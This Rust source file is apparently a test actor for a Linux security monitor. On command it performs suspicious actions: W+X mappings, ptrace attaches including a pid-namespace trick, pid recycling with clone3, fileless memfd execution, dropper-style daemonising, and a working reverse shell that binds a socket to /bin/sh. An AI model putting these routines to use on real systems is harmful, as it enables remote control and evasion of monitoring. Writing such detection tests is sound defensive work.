//! Test actor: performs one security-relevant action on command, printing `before` and `after`
//! around the syscall so a test can tell whether the process survived it.
//!
//! Usage: pw-actor [--wait] [--fork] ACTION [ARGS...]
//!   --wait   print `ready <pid>` and wait for a line on stdin before acting
//!   --fork   do the action in a forked child; the parent prints `child <pid> exited <code>` or
//!            `child <pid> killed <signal>` and exits 0
//! Actions: exit CODE | sleep SECS | busy SECS | fork | mprotect-wx | mmap-wx | pkey-mprotect-wx |
//!          ptrace-attach | ptrace-seize | connect ADDR PORT | memfd NAME | threads N |
//!          spawn-daemon SECS (fork a child into a new session, sleeping SECS; print
//!          `daemon <pid>` and exit) | fork-report SECS (fork a child that prints `child ran`) |
//!          memfd-exec ARGS... | reverse-shell ADDR PORT | exec-empty-argv PATH |
//!          rename HEX [SECS] (comm set to the hex-decoded bytes, then sleep; default 30 s) |
//!          ptrace-attach-pid PID (PTRACE_ATTACH to a process the test names) |
//!          ptrace-attach-ns PID (in a new pid namespace, start a child whose pid there is PID,
//!          and PTRACE_ATTACH to "PID": the number names another process outside) |
//!          recycle EXE [MS] (run `EXE exit 0`, reap it, wait MS milliseconds, then start
//!          `sleep 30` under the very same pid with clone3 set_tid; prints `first <pid>` and
//!          `impostor <pid>`) |
//!          serve (a small service driven from stdin, one command a line, each answered
//!          `ok ...` once done: `listen` (a loopback listener accepting and reading in the
//!          background; answers `ok port N`), `read PATH`, `readn PATH N` (open N times), `cd DIR`,
//!          `connect ADDR PORT` (kept open),
//!          `spawn PATH [ARGS...]` (waited for), `wx` (an RWX page), `busy SECS [NICE]`, `sleep SECS`;
//!          ends at end of input)
//!          pvm-write | proc-mem-write abs|rel|task | proc-self-mem (memory writes, see
//!          actor_evasion.rs) | udp-send sendto|sendmsg|sendmmsg ADDR PORT [HOLD] (with HOLD:
//!          fork a child napping HOLD s, print `child <pid>`, and stay HOLD s after) |
//!          tcp-fastopen ADDR PORT | io-uring-connect ADDR PORT |
//!          ia32 mprotect-wx|mmap2-wx|ptrace-attach|ptrace-attach-pid PID|pvm-write|connect A P|
//!          proc-mem-write open|openat | open PATH | openat PATH |
//!          socketcall-connect A P|
//!          sendto A P (int 0x80) | memfd-alias wx|xw | personality-rw
#[path = "../actor_evasion.rs"]
mod evasion;

use std::{
    io::{BufRead, Write},
    net::{SocketAddr, TcpStream},
    process::exit,
    time::{Duration, Instant},
};

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

fn fail(msg: &str) -> ! {
    eprintln!("pw-actor: {msg}: {}", std::io::Error::last_os_error());
    exit(2)
}

fn page() -> *mut libc::c_void {
    // SAFETY: anonymous private mapping, no pointers involved.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            4096,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
            -1,
            0,
        )
    };
    if p == libc::MAP_FAILED {
        fail("mmap");
    }
    p
}

/// Forks a child that sleeps until its parent dies (PDEATHSIG) so nothing outlives the test.
/// Returns only once the child has armed PDEATHSIG: a ptrace attach stops the child, and a
/// child stopped before arming it would outlive a killed parent.
fn sleeping_child() -> libc::pid_t {
    let mut fds = [0; 2];
    // SAFETY: valid array of two fds.
    if unsafe { libc::pipe(fds.as_mut_ptr()) } != 0 {
        fail("pipe");
    }
    // SAFETY: plain fork; the child only calls async-signal-safe functions.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        // SAFETY: prctl/write/pause are async-signal-safe; stdout is closed so a stopped
        // child never holds the test's pipe open.
        unsafe {
            libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL);
            libc::close(1);
            libc::write(fds[1], b"k".as_ptr().cast(), 1);
            loop {
                libc::pause();
            }
        }
    }
    if pid < 0 {
        fail("fork");
    }
    let mut byte = 0u8;
    // SAFETY: reading one byte into a valid buffer.
    unsafe {
        libc::close(fds[1]);
        libc::read(fds[0], (&raw mut byte).cast(), 1);
        libc::close(fds[0]);
    }
    pid
}

fn reap(pid: libc::pid_t) {
    // SAFETY: signalling and reaping our own child.
    unsafe {
        libc::kill(pid, libc::SIGKILL);
        libc::waitpid(pid, std::ptr::null_mut(), 0);
    }
}

fn ptrace_attach(request: libc::c_uint) {
    let child = sleeping_child();
    say(&format!("target {child}"));
    say("before");
    // SAFETY: ptrace on our own child.
    let rc = unsafe { libc::ptrace(request, child, 0, 0) };
    say("after");
    if rc != 0 {
        eprintln!("pw-actor: ptrace: {}", std::io::Error::last_os_error());
    }
    reap(child);
}

/// `struct clone_args` of clone3(2), up to `set_tid_size` (CLONE_ARGS_SIZE_VER1).
#[repr(C)]
#[derive(Default)]
struct CloneArgs {
    flags: u64,
    pidfd: u64,
    child_tid: u64,
    parent_tid: u64,
    exit_signal: u64,
    stack: u64,
    stack_size: u64,
    tls: u64,
    set_tid: u64,
    set_tid_size: u64,
}

/// Clones a child whose pid in the innermost namespace is `pid` (clone3 set_tid); the child
/// pauses until its parent dies. Returns the child's pid as the caller sees it.
fn child_with_pid(pid: libc::pid_t) -> libc::pid_t {
    let tid = pid;
    let mut args = CloneArgs {
        exit_signal: libc::SIGCHLD as u64,
        set_tid: (&raw const tid) as u64,
        set_tid_size: 1,
        ..CloneArgs::default()
    };
    // SAFETY: clone3 with a valid clone_args; the child only calls async-signal-safe functions.
    let got = unsafe {
        libc::syscall(
            libc::SYS_clone3,
            &raw mut args,
            std::mem::size_of::<CloneArgs>(),
        )
    };
    if got == 0 {
        // SAFETY: async-signal-safe calls in the child.
        unsafe {
            libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL);
            libc::close(1);
            loop {
                libc::pause();
            }
        }
    }
    if got < 0 {
        fail("clone3 set_tid");
    }
    got as libc::pid_t
}

/// In a new pid namespace (this process's next child is its init), a child gets the pid `pid`
/// there, and the init attaches to it by that number: outside the namespace the same number
/// names another process (the test's).
fn ptrace_attach_in_namespace(pid: libc::pid_t) {
    // SAFETY: unshare of the pid namespace affects only children created after it.
    if unsafe { libc::unshare(libc::CLONE_NEWPID) } != 0 {
        fail("unshare(CLONE_NEWPID)");
    }
    // SAFETY: plain fork; the child becomes pid 1 of the new namespace.
    let init = unsafe { libc::fork() };
    if init == 0 {
        let child = child_with_pid(pid);
        say(&format!("tracee {child}"));
        say("before");
        // SAFETY: ptrace on our own child, named by its pid in this namespace.
        let rc = unsafe { libc::ptrace(libc::PTRACE_ATTACH, child, 0, 0) };
        say(&format!("after {rc}"));
        exit(0);
    }
    if init < 0 {
        fail("fork");
    }
    let mut status = 0;
    // SAFETY: reaping our own child.
    unsafe { libc::waitpid(init, &mut status, 0) };
    if libc::WIFSIGNALED(status) {
        say(&format!("init killed {}", libc::WTERMSIG(status)));
    } else {
        say(&format!("init exited {}", libc::WEXITSTATUS(status)));
    }
}

/// Runs `exe exit 0` as pid P, reaps it, then starts `/bin/sleep 30` with the same pid P
/// (clone3 with set_tid; root may choose a free pid): a recycled pid on demand.
fn recycle(exe: &str, delay_ms: u64) {
    let child = std::process::Command::new(exe)
        .args(["exit", "0"])
        .spawn()
        .unwrap_or_else(|_| fail("spawn"));
    let first = child.id();
    let mut child = child;
    let _ = child.wait();
    say(&format!("first {first}"));
    std::thread::sleep(Duration::from_millis(delay_ms));
    let tid: libc::pid_t = first as libc::pid_t;
    let mut args = CloneArgs {
        exit_signal: libc::SIGCHLD as u64,
        set_tid: (&raw const tid) as u64,
        set_tid_size: 1,
        ..CloneArgs::default()
    };
    // SAFETY: clone3 with a valid clone_args; the child only execs or exits.
    let pid = unsafe {
        libc::syscall(
            libc::SYS_clone3,
            &raw mut args,
            std::mem::size_of::<CloneArgs>(),
        )
    };
    if pid == 0 {
        // SAFETY: async-signal-safe exec in the child, with valid C strings.
        unsafe {
            libc::execl(
                c"/bin/sleep".as_ptr(),
                c"sleep".as_ptr(),
                c"30".as_ptr(),
                std::ptr::null::<libc::c_char>(),
            );
            libc::_exit(127);
        }
    }
    if pid < 0 {
        fail("clone3 set_tid");
    }
    say(&format!("impostor {pid}"));
    let mut status = 0;
    // SAFETY: reaping our own child.
    unsafe { libc::waitpid(pid as libc::pid_t, &mut status, 0) };
}

fn act(args: &[String]) {
    let arg = |i: usize| {
        args.get(i)
            .map(String::as_str)
            .unwrap_or_else(|| fail("missing argument"))
    };
    match arg(0) {
        "exit" => exit(arg(1).parse().unwrap_or_else(|_| fail("exit code"))),
        "sleep" => std::thread::sleep(Duration::from_secs_f64(arg(1).parse().unwrap_or(1.0))),
        "busy" => {
            let until = Instant::now() + Duration::from_secs_f64(arg(1).parse().unwrap_or(1.0));
            let mut x: u64 = 0;
            while Instant::now() < until {
                x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
            }
        }
        "burn-cpu" => {
            // Use this much CPU time (not wall time: the CPUs are shared), say so, then idle.
            let want = Duration::from_secs_f64(arg(1).parse().unwrap_or(1.0));
            let cpu = || {
                let mut ts = libc::timespec {
                    tv_sec: 0,
                    tv_nsec: 0,
                };
                // SAFETY: valid pointer to a timespec.
                unsafe { libc::clock_gettime(libc::CLOCK_PROCESS_CPUTIME_ID, &mut ts) };
                Duration::new(ts.tv_sec as u64, ts.tv_nsec as u32)
            };
            let mut x: u64 = 0;
            while cpu() < want {
                for _ in 0..100_000 {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            say("burnt");
            std::thread::sleep(Duration::from_secs_f64(
                args.get(2).and_then(|s| s.parse().ok()).unwrap_or(30.0),
            ));
        }
        "rename" => {
            // comm holds 15 bytes and a NUL: any bytes, newlines and escapes included.
            let mut name = [0u8; 16];
            for (slot, pair) in name.iter_mut().zip(arg(1).as_bytes().chunks(2).take(15)) {
                *slot = std::str::from_utf8(pair)
                    .ok()
                    .and_then(|p| u8::from_str_radix(p, 16).ok())
                    .unwrap_or_else(|| fail("hex name"));
            }
            // SAFETY: PR_SET_NAME reads a NUL-terminated string of at most 16 bytes.
            unsafe { libc::prctl(libc::PR_SET_NAME, name.as_ptr()) };
            say("renamed");
            let secs = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(30.0);
            std::thread::sleep(Duration::from_secs_f64(secs));
        }
        "memfd-exec" => {
            // Copy our own executable into a memfd and run it from there (fileless execution).
            let exe =
                std::fs::read("/proc/self/exe").unwrap_or_else(|_| fail("read /proc/self/exe"));
            // SAFETY: valid C string literal.
            let fd = unsafe { libc::memfd_create(c"pw-fileless".as_ptr(), 0) };
            if fd < 0 {
                fail("memfd_create");
            }
            // SAFETY: writing our buffer to our fd.
            if unsafe { libc::write(fd, exe.as_ptr().cast(), exe.len()) } != exe.len() as isize {
                fail("write memfd");
            }
            let rest: Vec<std::ffi::CString> = args[1..]
                .iter()
                .map(|a| std::ffi::CString::new(a.as_str()).unwrap_or_default())
                .collect();
            let mut argv: Vec<*const libc::c_char> = vec![c"pw-fileless".as_ptr()];
            argv.extend(rest.iter().map(|a| a.as_ptr()));
            argv.push(std::ptr::null());
            let envp: [*const libc::c_char; 1] = [std::ptr::null()];
            // SAFETY: NULL-terminated argv/envp of valid C strings.
            unsafe { libc::fexecve(fd, argv.as_ptr(), envp.as_ptr()) };
            fail("fexecve");
        }
        "reverse-shell" => {
            // Connect, put the socket on stdin/stdout/stderr, and exec a shell on it.
            let addr: SocketAddr = format!("{}:{}", arg(1), arg(2))
                .parse()
                .unwrap_or_else(|_| fail("address"));
            let stream = TcpStream::connect(addr).unwrap_or_else(|_| fail("connect"));
            use std::os::fd::AsRawFd;
            let fd = stream.as_raw_fd();
            // SAFETY: duplicating our own socket fd onto 0, 1, 2, then exec.
            unsafe {
                libc::dup2(fd, 0);
                libc::dup2(fd, 1);
                libc::dup2(fd, 2);
                libc::execl(
                    c"/bin/sh".as_ptr(),
                    c"sh".as_ptr(),
                    c"-i".as_ptr(),
                    std::ptr::null::<libc::c_char>(),
                );
            }
            fail("exec /bin/sh");
        }
        "exec" => {
            // Replace this image at once: `exec PATH ARGV0 ARGS...`.
            let c = |s: &str| std::ffi::CString::new(s).unwrap_or_else(|_| fail("NUL in argument"));
            let path = c(arg(1));
            let rest: Vec<std::ffi::CString> = args[2..].iter().map(|a| c(a)).collect();
            let mut argv: Vec<*const libc::c_char> = rest.iter().map(|a| a.as_ptr()).collect();
            argv.push(std::ptr::null());
            // SAFETY: valid path, NULL-terminated argv of valid C strings; environ is ours.
            unsafe { libc::execv(path.as_ptr(), argv.as_ptr()) };
            fail("execv");
        }
        "exec-empty-argv" => {
            // execve with an empty argv: the new program's command line is empty.
            let path = std::ffi::CString::new(arg(1)).unwrap_or_else(|_| fail("path"));
            let argv: [*const libc::c_char; 1] = [std::ptr::null()];
            let envp: [*const libc::c_char; 1] = [std::ptr::null()];
            // SAFETY: valid path, NULL-terminated (empty) argv and envp.
            unsafe { libc::execve(path.as_ptr(), argv.as_ptr(), envp.as_ptr()) };
            fail("execve");
        }
        "threads" => {
            let n: usize = arg(1).parse().unwrap_or(4);
            let handles: Vec<_> = (0..n).map(|i| std::thread::spawn(move || i * 2)).collect();
            let sum: usize = handles.into_iter().map(|h| h.join().unwrap_or(0)).sum();
            say(&format!("threads {n} {sum}"));
        }
        "spawn-daemon" => {
            // A dropper's manners: a child in a new session that outlives its parent, which
            // exits at once. The child sleeps SECS, then exits.
            let secs: u64 = arg(1).parse().unwrap_or_else(|_| fail("seconds"));
            // SAFETY: plain fork; the child only calls async-signal-safe functions.
            let pid = unsafe { libc::fork() };
            if pid == 0 {
                // SAFETY: setsid/close/sleep/_exit are async-signal-safe.
                unsafe {
                    libc::setsid();
                    libc::close(1);
                    libc::sleep(secs as libc::c_uint);
                    libc::_exit(0);
                }
            }
            if pid < 0 {
                fail("fork");
            }
            say(&format!("daemon {pid}"));
        }
        "fork-report" => {
            // Forks a child that says so on stdout if it ever runs, then both sleep SECS.
            let secs: u64 = arg(1).parse().unwrap_or_else(|_| fail("seconds"));
            say("before");
            // SAFETY: plain fork; the child only calls async-signal-safe functions.
            let pid = unsafe { libc::fork() };
            if pid == 0 {
                // SAFETY: write/sleep/_exit are async-signal-safe.
                unsafe {
                    libc::write(1, b"child ran\n".as_ptr().cast(), 10);
                    libc::sleep(secs as libc::c_uint);
                    libc::_exit(0);
                }
            }
            say(&format!("after fork {pid}"));
            std::thread::sleep(Duration::from_secs(secs));
        }
        "fork" => {
            // SAFETY: plain fork; the child exits at once.
            let pid = unsafe { libc::fork() };
            if pid == 0 {
                // SAFETY: async-signal-safe exit in the child.
                unsafe { libc::_exit(0) };
            }
            say(&format!("child {pid}"));
            // SAFETY: reaping our own child.
            unsafe { libc::waitpid(pid, std::ptr::null_mut(), 0) };
        }
        "mprotect-wx" => {
            let p = page();
            say("before");
            // SAFETY: changing protection of our own mapping.
            let rc = unsafe {
                libc::mprotect(
                    p,
                    4096,
                    libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC,
                )
            };
            say(&format!("after {rc}"));
        }
        "mmap-wx" => {
            say("before");
            // SAFETY: anonymous mapping.
            let p = unsafe {
                libc::mmap(
                    std::ptr::null_mut(),
                    8192,
                    libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC,
                    libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
                    -1,
                    0,
                )
            };
            say(&format!("after {}", p != libc::MAP_FAILED));
        }
        "pkey-mprotect-wx" => {
            let p = page();
            say("before");
            // SAFETY: pkey_mprotect with pkey -1 (no key) on our own mapping.
            let rc = unsafe {
                libc::syscall(
                    libc::SYS_pkey_mprotect,
                    p,
                    4096usize,
                    libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC,
                    -1,
                )
            };
            say(&format!("after {rc}"));
        }
        "ptrace-attach" => ptrace_attach(libc::PTRACE_ATTACH),
        "ptrace-attach-pid" => {
            let pid: libc::pid_t = arg(1).parse().unwrap_or_else(|_| fail("pid"));
            say("before");
            // SAFETY: ptrace on a pid the test named; the test owns that process.
            let rc = unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) };
            let err = std::io::Error::last_os_error();
            say(&format!("after {rc} {}", err.raw_os_error().unwrap_or(0)));
        }
        "ptrace-attach-ns" => {
            ptrace_attach_in_namespace(arg(1).parse().unwrap_or_else(|_| fail("pid")));
        }
        "recycle" => recycle(
            arg(1),
            args.get(2).and_then(|s| s.parse().ok()).unwrap_or(0),
        ),
        "ptrace-seize" => ptrace_attach(libc::PTRACE_SEIZE),
        "connect" => {
            let addr: SocketAddr = format!("{}:{}", arg(1), arg(2))
                .parse()
                .or_else(|_| format!("[{}]:{}", arg(1), arg(2)).parse())
                .unwrap_or_else(|_| fail("address"));
            say("before");
            let ok = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).is_ok();
            say(&format!("after {ok}"));
        }
        "memfd" => {
            let name = std::ffi::CString::new(arg(1)).unwrap_or_else(|_| fail("name"));
            // SAFETY: valid C string.
            let fd = unsafe { libc::memfd_create(name.as_ptr(), libc::MFD_CLOEXEC) };
            say(&format!("memfd {fd}"));
        }
        "serve" => serve(),
        other if evasion::act(other, args) => {}
        other => {
            eprintln!("pw-actor: unknown action {other}");
            exit(2)
        }
    }
}

/// Accepts connections on `l` in a thread, keeping each one open (an accepted connection a
/// /proc sweep can see); answers `ok port N`.
fn accept_in_background(l: std::net::TcpListener) -> String {
    let port = l.local_addr().map_or(0, |a| a.port());
    std::thread::spawn(move || {
        let mut open = Vec::new();
        for conn in l.incoming().flatten() {
            open.push(conn);
        }
    });
    format!("ok port {port}")
}

/// A TCP listener on 127.0.0.1:`port` with SO_REUSEADDR and SO_REUSEPORT set.
fn listen_shared(port: u16) -> std::io::Result<std::net::TcpListener> {
    use std::os::fd::FromRawFd;
    // SAFETY: plain socket calls on a descriptor this function owns until it is handed over.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let listener = std::net::TcpListener::from_raw_fd(fd);
        let one: libc::c_int = 1;
        for opt in [libc::SO_REUSEADDR, libc::SO_REUSEPORT] {
            let r = libc::setsockopt(
                fd,
                libc::SOL_SOCKET,
                opt,
                (&raw const one).cast(),
                size_of::<libc::c_int>() as libc::socklen_t,
            );
            if r != 0 {
                return Err(std::io::Error::last_os_error());
            }
        }
        let addr = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: port.to_be(),
            sin_addr: libc::in_addr {
                s_addr: u32::from_ne_bytes([127, 0, 0, 1]),
            },
            sin_zero: [0; 8],
        };
        if libc::bind(
            fd,
            (&raw const addr).cast(),
            size_of::<libc::sockaddr_in>() as libc::socklen_t,
        ) != 0
            || libc::listen(fd, 128) != 0
        {
            return Err(std::io::Error::last_os_error());
        }
        Ok(listener)
    }
}

/// `serve`: one command a line from stdin, like a small web service told what to do.
fn serve() {
    let mut kept: Vec<TcpStream> = Vec::new();
    for line in std::io::stdin().lock().lines() {
        let Ok(line) = line else { break };
        let words: Vec<&str> = line.split_whitespace().collect();
        let reply = match words.as_slice() {
            ["listen"] => match std::net::TcpListener::bind("127.0.0.1:0") {
                Ok(l) => accept_in_background(l),
                Err(e) => format!("err listen {e}"),
            },
            // A service port several processes share (SO_REUSEPORT), as forked servers do.
            ["listen", port] => match port.parse().map(listen_shared) {
                Ok(Ok(l)) => accept_in_background(l),
                Ok(Err(e)) => format!("err listen {e}"),
                Err(e) => format!("err port {e}"),
            },
            // A datagram to ADDR:PORT from a connect()ed UDP socket (as a DNS resolver does).
            ["udp", addr, port] => {
                let to: Result<SocketAddr, _> = format!("{addr}:{port}").parse();
                let sent = to.map_err(|e| e.to_string()).and_then(|to| {
                    let s = std::net::UdpSocket::bind("127.0.0.1:0").map_err(|e| e.to_string())?;
                    s.connect(to).map_err(|e| e.to_string())?;
                    s.send(b"ping").map_err(|e| e.to_string())
                });
                match sent {
                    Ok(n) => format!("ok udp {n}"),
                    Err(e) => format!("err udp {e}"),
                }
            }
            ["readn", path, n] => {
                let n: u64 = n.parse().unwrap_or(1);
                let ok = (0..n).filter(|_| std::fs::File::open(path).is_ok()).count();
                format!("ok readn {ok}")
            }
            ["cd", dir] => match std::env::set_current_dir(dir) {
                Ok(()) => "ok cd".to_string(),
                Err(e) => format!("err cd {e}"),
            },
            ["read", path] => match std::fs::read(path) {
                Ok(b) => format!("ok read {}", b.len()),
                Err(e) => format!("err read {e}"),
            },
            ["connect", addr, port] => {
                let to: Result<SocketAddr, _> = format!("{addr}:{port}").parse();
                match to.map(|a| TcpStream::connect_timeout(&a, Duration::from_secs(2))) {
                    Ok(Ok(c)) => {
                        kept.push(c);
                        "ok connect".to_string()
                    }
                    Ok(Err(e)) => format!("err connect {e}"),
                    Err(e) => format!("err address {e}"),
                }
            }
            ["spawn", path, rest @ ..] => {
                match std::process::Command::new(path).args(rest).status() {
                    Ok(st) => format!("ok spawn {}", st.code().unwrap_or(-1)),
                    Err(e) => format!("err spawn {e}"),
                }
            }
            ["wx"] => {
                let p = page();
                // SAFETY: changing protection of our own mapping.
                let rc = unsafe {
                    libc::mprotect(
                        p,
                        4096,
                        libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC,
                    )
                };
                format!("ok wx {rc}")
            }
            ["busy", secs, rest @ ..] => {
                // An optional nice value: on a loaded machine a spike must still be a spike.
                if let Some(nice) = rest.first().and_then(|n| n.parse::<i32>().ok()) {
                    // SAFETY: setpriority on this process only.
                    unsafe { libc::setpriority(libc::PRIO_PROCESS, 0, nice) };
                }
                let until = Instant::now() + Duration::from_secs_f64(secs.parse().unwrap_or(1.0));
                let mut x: u64 = 0;
                while Instant::now() < until {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
                "ok busy".to_string()
            }
            ["sleep", secs] => {
                std::thread::sleep(Duration::from_secs_f64(secs.parse().unwrap_or(1.0)));
                "ok sleep".to_string()
            }
            _ => format!("err unknown command {line}"),
        };
        say(&reply);
    }
}

fn main() {
    // args_os: a hostile argv (invalid UTF-8) must not crash the actor.
    let mut args: Vec<String> = std::env::args_os()
        .skip(1)
        .map(|a| a.to_string_lossy().into_owned())
        .collect();
    let mut wait = false;
    let mut fork = false;
    while let Some(flag) = args.first().filter(|a| a.starts_with("--")).cloned() {
        match flag.as_str() {
            "--wait" => wait = true,
            "--fork" => fork = true,
            other => {
                eprintln!("pw-actor: unknown flag {other}");
                exit(2)
            }
        }
        args.remove(0);
    }
    if wait {
        say(&format!("ready {}", std::process::id()));
        let mut line = String::new();
        let _ = std::io::stdin().lock().read_line(&mut line);
    }
    if args.is_empty() {
        // Started with an empty argv (exec-empty-argv): linger so the monitor can look.
        std::thread::sleep(Duration::from_secs(3));
        return;
    }
    if !fork {
        act(&args);
        return;
    }
    // SAFETY: fork; the child runs the action and exits.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        fail("fork");
    }
    if pid == 0 {
        act(&args);
        exit(0);
    }
    let mut status = 0;
    // SAFETY: reaping our own child.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    if libc::WIFSIGNALED(status) {
        say(&format!("child {pid} killed {}", libc::WTERMSIG(status)));
    } else {
        say(&format!("child {pid} exited {}", libc::WEXITSTATUS(status)));
    }
}
